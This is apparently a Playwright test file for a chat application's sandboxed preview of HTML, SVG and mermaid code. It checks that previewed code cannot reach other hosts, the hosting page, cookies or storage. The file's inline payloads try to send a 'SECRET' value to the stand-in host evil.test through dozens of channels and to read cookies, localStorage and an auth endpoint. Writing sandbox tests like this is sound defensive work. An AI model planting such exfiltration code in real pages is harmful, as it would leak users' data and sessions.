// Code in a preview runs, and gets nowhere: not to another host, not to the page, not to what the page knows.
import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures";
import { lots } from "./payloads";
import { witness } from "./witness";

const fenced = (language: string, code: string) => `\`\`\`\`${language}\n${code}\n\`\`\`\``;

/** Refusals, and errors of its own, are what previews are for; a dialog or a window would not be. */
const refused = (what: string) =>
  what.startsWith("policy: frame-src ") ||
  (what.startsWith("error: ") && /\/preview|about:srcdoc/.test(what));

const preview = (page: Page) => page.getByRole("button", { name: "Preview" });

const ATTEMPTS = `<!doctype html><title>x</title><body><a id="link" href="https://evil.test/click">x</a>
<form id="form" action="https://evil.test/form"><input name="a" value="b"></form>
<script>
const E = "https://evil.test";
const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
const tried = window.tried = {};
const attempts = {
  fetch: () => void fetch(E + "/fetch", { mode: "no-cors" }).catch(() => {}),
  request() { const x = new XMLHttpRequest(); x.open("GET", E + "/xhr"); x.send(); },
  beacon: () => void navigator.sendBeacon(E + "/beacon", "SECRET"),
  socket: () => void new WebSocket("wss://evil.test/socket"),
  events: () => void new EventSource(E + "/events"),
  image: () => void (new Image().src = E + "/image"),
  style: () => add("style", { textContent: "@import '" + E + "/x.css'; *{background:url(" + E + "/b)}" }),
  font: () => void new FontFace("x", "url(" + E + "/font)").load().catch(() => {}),
  script: () => add("script", { src: E + "/x.js" }),
  module: () => void import(E + "/module.js").catch(() => {}),
  frame: () => add("iframe", { src: E + "/frame" }),
  inner: () => add("iframe", { srcdoc: "<img src=" + E + "/inner><script>fetch('" + E + "/inner')</" + "script>" }),
  object: () => add("object", { data: E + "/object" }),
  embed: () => add("embed", { src: E + "/embed" }),
  video: () => add("video", { src: E + "/video" }),
  prefetch: () => add("link", { rel: "prefetch", href: E + "/prefetch" }),
  preload: () => add("link", { rel: "preload", as: "image", href: E + "/preload" }),
  preconnect: () => add("link", { rel: "preconnect", href: E }),
  lookup: () => add("link", { rel: "dns-prefetch", href: "//lookup.evil.test" }),
  manifest: () => add("link", { rel: "manifest", href: E + "/manifest" }),
  icon: () => add("link", { rel: "icon", href: E + "/icon" }),
  speculate: () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [E + "/s"], eagerness: "immediate" }] }) }),
  webrtc() {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.evil.test" }] });
    peer.createDataChannel("x");
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  worker: () => void new Worker(URL.createObjectURL(new Blob(["fetch('" + E + "/worker')"]))),
  open: () => void open(E + "/open"),
  form: () => document.getElementById("form").submit(),
  ping: () => add("a", { ping: E + "/ping", href: "#" }),
  dialog: () => alert(1),
  top: () => void (top.location = E + "/top"),
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  parent: () => parent.document.title,
  api: () => void fetch("/api/auth/me").then((answer) => (tried.read = answer.status), () => {}),
};
for (const [name, attempt] of Object.entries(attempts))
  try { tried[name] = String(attempt()); } catch (error) { tried[name] = error.name; }
document.title = "done";
</script>`;

test("a page in a preview reaches nobody, and knows nothing", async ({ appliance }) => {
  test.setTimeout(90_000);
  await witness(
    appliance,
    async ({ chat, page }) => {
      await chat.useModel("echo");
      await chat.ask(fenced("html", ATTEMPTS));
      await chat.finished();
      const address = page.url();
      await preview(page).click();
      await expect(page.locator("iframe")).toBeVisible();
      const frame = () => page.frames().find((one) => one.url().endsWith("/preview"));
      await expect.poll(() => frame()?.evaluate(() => document.title)).toBe("done");
      // Connections that are begun late are to be seen, too.
      await page.waitForTimeout(2000);
      const tried = await frame()!.evaluate(
        () => (window as unknown as { tried: Record<string, string> }).tried,
      );
      for (const what of ["cookie", "storage", "parent"]) expect(tried[what]).toBe("SecurityError");
      expect(tried).not.toHaveProperty("read");
      expect(page.url()).toBe(address);
      expect(page.context().pages()).toHaveLength(1);
    },
    refused,
  );
});

test.describe("a preview goes nowhere else", () => {
  const ways = {
    "by a script": "<script>location = 'https://evil.test/?q=SECRET'</script>",
    "by itself": '<meta http-equiv="refresh" content="0;url=https://evil.test/?q=SECRET">',
    "by a link": '<a id="x" href="https://evil.test/?q=SECRET">x</a><script>x.click()</script>',
    "by a base":
      '<base href="https://evil.test/"><a id="x" href="y">x</a><script>x.click()</script>',
  };
  for (const [way, code] of Object.entries(ways)) {
    test(way, async ({ appliance }) => {
      await witness(
        appliance,
        async ({ chat, page }) => {
          await chat.useModel("echo");
          await chat.ask(fenced("html", code));
          await chat.finished();
          await preview(page).click();
          await expect(page.locator("iframe")).toBeVisible();
          await page.waitForTimeout(1500);
          expect(
            page
              .frames()
              .map((one) => one.url())
              .join(),
          ).not.toContain("evil");
        },
        refused,
      );
    });
  }
});

test("a frame within a preview reaches nobody either, and the page outlives it", async ({
  appliance,
}) => {
  await witness(
    appliance,
    async ({ chat, page }) => {
      await chat.useModel("echo");
      const peer = "new RTCPeerConnection({iceServers:[{urls:'stun:inner.evil.test'}]})";
      const inner = `<script>${peer}.createDataChannel('x')</script>`;
      await chat.ask(fenced("html", `<iframe srcdoc="${inner}"></iframe>`));
      await chat.finished();
      const session = await page.context().newCDPSession(page);
      await preview(page).click();
      // The browser may end the process of the frame.
      await new Promise((resolve) => setTimeout(resolve, 2000));
      const { result } = await session.send("Runtime.evaluate", {
        expression: "document.querySelectorAll('article').length",
      });
      expect(result.value).toBe(2);
    },
    refused,
  );
});

test("hostile pages, drawings and diagrams reach nobody", async ({ appliance }) => {
  test.setTimeout(180_000);
  await witness(
    appliance,
    async ({ chat, page }) => {
      await chat.useModel("echo");
      for (const lot of lots(6)) {
        const code = Buffer.from(lot.join("\n")).toString().replaceAll("\u0000", "");
        const diagrams = lot.filter((one) => one.startsWith("```mermaid"));
        const blocks = [
          fenced("html", code),
          fenced("svg", `<svg xmlns="http://www.w3.org/2000/svg">${code}</svg>`),
          ...diagrams,
        ];
        await page.goto(appliance.address);
        await chat.ask(blocks.join("\n\n"));
        await chat.finished();
        for (const button of await preview(page).all()) {
          await button.click();
          await page.waitForTimeout(700);
        }
      }
    },
    refused,
  );
});

test("a diagram of a megabyte is refused in words, and the page is still there", async ({
  chat,
}) => {
  const { page } = chat;
  const diagram = `graph TD\n${"  a --> b\n".repeat(110_000)}`;
  await page.route("**/api/conversations/*/messages*", async (route) => {
    const answer = await route.fetch();
    const body = await answer.json();
    for (const part of body.items.at(-1).parts)
      if (part.type === "text") part.text = fenced("mermaid", diagram);
    await route.fulfill({ json: body });
  });
  await chat.useModel("echo");
  await chat.ask("x");
  await chat.finished();
  await page.reload();
  await preview(page).click();
  await expect(page.locator(".preview-fault")).toContainText("too large");
  await chat.box.fill("still here");
  await expect(chat.box).toHaveValue("still here");
});
